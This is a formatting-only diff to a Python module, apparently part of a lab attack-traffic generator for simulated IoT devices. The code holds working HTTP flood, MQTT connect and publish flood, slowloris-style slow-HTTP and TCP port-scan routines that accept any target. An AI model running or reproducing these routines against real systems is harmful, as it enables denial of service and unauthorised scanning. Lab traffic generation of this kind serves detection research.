@@ -11,11 +11,26 @@ from wirespeak.lab.attacks.start import Pace, start
 from wirespeak.lab.devices.device import MISHAPS
 from wirespeak.lab.devices.mqtt import MqttClient
 
-_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64; rv:91.0)", "curl/7.88.1", "python-requests/2.28", "Opera/9.80")
+_AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:91.0)",
+    "curl/7.88.1",
+    "python-requests/2.28",
+    "Opera/9.80",
+)
 
 
 async def http_flood(
-    *, target: str, port: int, rate: float, workers: int, post: bool, keep: bool, random_target: bool, seconds: float, seed: int
+    *,
+    target: str,
+    port: int,
+    rate: float,
+    workers: int,
+    post: bool,
+    keep: bool,
+    random_target: bool,
+    seconds: float,
+    seed: int,
 ) -> None:
     """Requests at `rate` from `workers` connections, each kept or made anew."""
     random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
@@ -43,14 +58,30 @@ async def http_flood(
     await asyncio.gather(*(work() for _ in range(workers)))
 
 
-async def mqtt_connect_flood(*, target: str, port: int, rate: float, seconds: float, password: str, politely: bool, seed: int, subscriptions: int = 0) -> None:
+async def mqtt_connect_flood(
+    *,
+    target: str,
+    port: int,
+    rate: float,
+    seconds: float,
+    password: str,
+    politely: bool,
+    seed: int,
+    subscriptions: int = 0,
+) -> None:
     """Connections under ever new names, logged in or turned away, with subscriptions or without."""
     random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
     busy: set[asyncio.Task[None]] = set()
 
     async def one() -> None:
         try:
-            client, code = await MqttClient.connect(target, port, f"{random.getrandbits(64):x}", user="bulb" if password else "", password=password)
+            client, code = await MqttClient.connect(
+                target,
+                port,
+                f"{random.getrandbits(64):x}",
+                user="bulb" if password else "",
+                password=password,
+            )
             if not code:
                 for number in range(subscriptions):
                     await client.subscribe(random.choice(("#", "+/+/state", f"t/{number}/#", "$SYS/#")))
@@ -69,7 +100,17 @@ async def mqtt_connect_flood(*, target: str, port: int, rate: float, seconds: fl
 
 
 async def mqtt_publish_flood(
-    *, target: str, port: int, rate: float, size: int, qos: int, clients: int, per_connection: int, seconds: float, password: str, seed: int
+    *,
+    target: str,
+    port: int,
+    rate: float,
+    size: int,
+    qos: int,
+    clients: int,
+    per_connection: int,
+    seconds: float,
+    password: str,
+    seed: int,
 ) -> None:
     """Messages at `rate` in all, from `clients` connections that each send `per_connection` and come again."""
     random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
@@ -77,7 +118,9 @@ async def mqtt_publish_flood(
     async def work() -> None:
         while time.monotonic() < end:
             try:
-                client, _ = await MqttClient.connect(target, port, f"{random.getrandbits(64):x}", user="bulb", password=password)
+                client, _ = await MqttClient.connect(
+                    target, port, f"{random.getrandbits(64):x}", user="bulb", password=password
+                )
                 listener = asyncio.create_task(client.listen())
                 for _ in range(random.randint(per_connection // 2 + 1, per_connection)):
                     await client.publish(f"flood/{random.randint(0, 99)}", random.randbytes(size), qos=qos)
@@ -93,7 +136,9 @@ async def mqtt_publish_flood(
     await asyncio.gather(*(work() for _ in range(clients)))
 
 
-async def slow_http(*, target: str, port: int, connections: int, interval: float, body: bool, seconds: float, seed: int) -> None:
+async def slow_http(
+    *, target: str, port: int, connections: int, interval: float, body: bool, seconds: float, seed: int
+) -> None:
     """Hold many connections with requests that grow by a few bytes and never end."""
     random, end = Random(seed), time.monotonic() + seconds
 
@@ -102,11 +147,21 @@ async def slow_http(*, target: str, port: int, connections: int, interval: float
         while time.monotonic() < end:
             try:
                 _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 5)
-                verb, extra = ("POST", f"Content-Length: {random.randint(4000, 90000)}\r\n\r\n") if body else ("GET", "")
-                writer.write(f"{verb} /{random.getrandbits(20):x} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n{extra}".encode())
+                verb, extra = (
+                    ("POST", f"Content-Length: {random.randint(4000, 90000)}\r\n\r\n")
+                    if body
+                    else ("GET", "")
+                )
+                writer.write(
+                    f"{verb} /{random.getrandbits(20):x} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n{extra}".encode()
+                )
                 while time.monotonic() < end:
                     await asyncio.sleep(interval * random.uniform(0.7, 1.3))
-                    writer.write(random.randbytes(random.randint(1, 4)).hex().encode() if body else f"X-{random.getrandbits(16):x}: {random.getrandbits(12)}\r\n".encode())
+                    writer.write(
+                        random.randbytes(random.randint(1, 4)).hex().encode()
+                        if body
+                        else f"X-{random.getrandbits(16):x}: {random.getrandbits(12)}\r\n".encode()
+                    )
                     await writer.drain()
                 writer.close()
             except MISHAPS:
@@ -116,7 +171,9 @@ async def slow_http(*, target: str, port: int, connections: int, interval: float
         await asyncio.wait_for(asyncio.gather(*(hold() for _ in range(connections))), seconds)
 
 
-async def connect_scan(*, targets: list[str], ports: list[int], rate: float, shuffled: bool, seed: int) -> None:
+async def connect_scan(
+    *, targets: list[str], ports: list[int], rate: float, shuffled: bool, seed: int
+) -> None:
     """A connection to each port of each target, closed as soon as it opens."""
     pairs = [(target, port) for target in targets for port in ports]
     if shuffled:
